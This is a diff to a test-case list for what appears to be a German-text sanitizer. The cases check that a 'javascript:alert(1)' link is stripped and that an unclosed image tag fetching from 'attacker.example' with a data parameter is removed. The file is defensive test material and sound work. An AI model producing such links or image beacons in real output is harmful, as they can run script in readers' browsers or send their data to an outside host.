@@ -36,6 +36,9 @@ CASES = [
      "Die Leistung beträgt 5,5 kW [laut Datenblatt] (Stand 1. April 2026)."),
     ("[Klick](javascript:alert(1))", "Klick (Link entfernt)"),
     ("Der Code lautet RABATT-77, kurz: rabatt-77.", "Der Code lautet […], kurz: […]."),
+    ("Hier das Bild:\n<img src=\"https://attacker.example/i?d=1\" alt",
+     "Hier das Bild:\n"),
+    ("Preis <netto 5 €\nEnde", "Preis <netto 5 €\nEnde"),
 ]
 
 
